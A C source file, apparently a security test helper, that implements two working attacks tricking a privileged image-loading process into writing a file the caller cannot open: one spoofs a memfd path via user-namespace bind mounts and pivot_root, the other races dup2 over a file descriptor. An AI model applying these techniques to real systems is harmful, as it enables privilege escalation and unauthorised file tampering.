/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What a program does that wants root to write a file for it: it has that file, under the name and number of a memfd
 * that whoever brings in an image looks for. It needs no privilege: descriptors of files that it may not open are
 * opened with O_PATH, or were passed to it.
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "injectee.h"

#define NAME "inferscope-agent-1-1" /* as if pid 1 had made it long ago */

static void must(int ok, const char *what)
{
	if (ok)
		return;
	fprintf(stderr, "injectee: %s: %s\n", what, strerror(errno));
	exit(4);
}

static void put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	must(fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text), path);
	close(fd);
}

/* /proc/PID/fd/N reads "/memfd:inferscope-agent-1-1": the file is mounted at that path of a root of our own. */
static void mount_there(const char *victim)
{
	char map[64], uid[16], gid[16];
	static const char root[] = "/mnt", there[] = "/mnt/memfd:" NAME;
	int fd;

	snprintf(uid, sizeof(uid), "%u", getuid());
	snprintf(gid, sizeof(gid), "%u", getgid());
	fd = open(victim, O_PATH | O_CLOEXEC);
	must(fd >= 0, victim);
	must(!unshare(CLONE_NEWUSER | CLONE_NEWNS), "unshare");
	put("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "%s %s 1", uid, uid);
	put("/proc/self/uid_map", map);
	snprintf(map, sizeof(map), "%s %s 1", gid, gid);
	put("/proc/self/gid_map", map);
	must(!mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL), "make mounts private");
	must(!mount("none", root, "tmpfs", 0, NULL), "mount a root");
	must(!mkdir("/mnt/proc", 0755) && !mount("/proc", "/mnt/proc", NULL, MS_BIND | MS_REC, NULL), "bind /proc");
	must((fd = open(there, O_CREAT | O_CLOEXEC, 0600)) >= 0 && !close(fd), there);
	must(!mount(victim, there, NULL, MS_BIND, NULL), "bind the file");
	must(!chdir(root) && !syscall(SYS_pivot_root, ".", ".") && !umount2(".", MNT_DETACH) && !chdir("/"), "pivot_root");
	must(open("/memfd:" NAME, O_PATH | O_CLOEXEC) >= 0, "open the file");
}

static int race_fds[3]; /* number that changes its file, a memfd, the file */

static void *swap(void *unused)
{
	for (;;) {
		dup2(race_fds[1], race_fds[0]);
		dup2(race_fds[2], race_fds[0]);
	}
	return unused;
}

static void race(const char *victim)
{
	pthread_t t;

	race_fds[0] = memfd_create(NAME, MFD_ALLOW_SEALING); /* the lowest number is looked at first */
	race_fds[1] = fcntl(race_fds[0], F_DUPFD, 100);
	race_fds[2] = open(victim, O_PATH);
	must(race_fds[0] >= 0 && race_fds[1] >= 0 && race_fds[2] >= 0, victim);
	must(!pthread_create(&t, NULL, swap, NULL), "pthread_create");
}

/* mount:PATH, race:PATH; a file that was passed needs nothing. */
void attack(const char *how)
{
	if (!strncmp(how, "mount:", 6))
		mount_there(how + 6);
	else if (!strncmp(how, "race:", 5))
		race(how + 5);
	else
		exit(2);
}
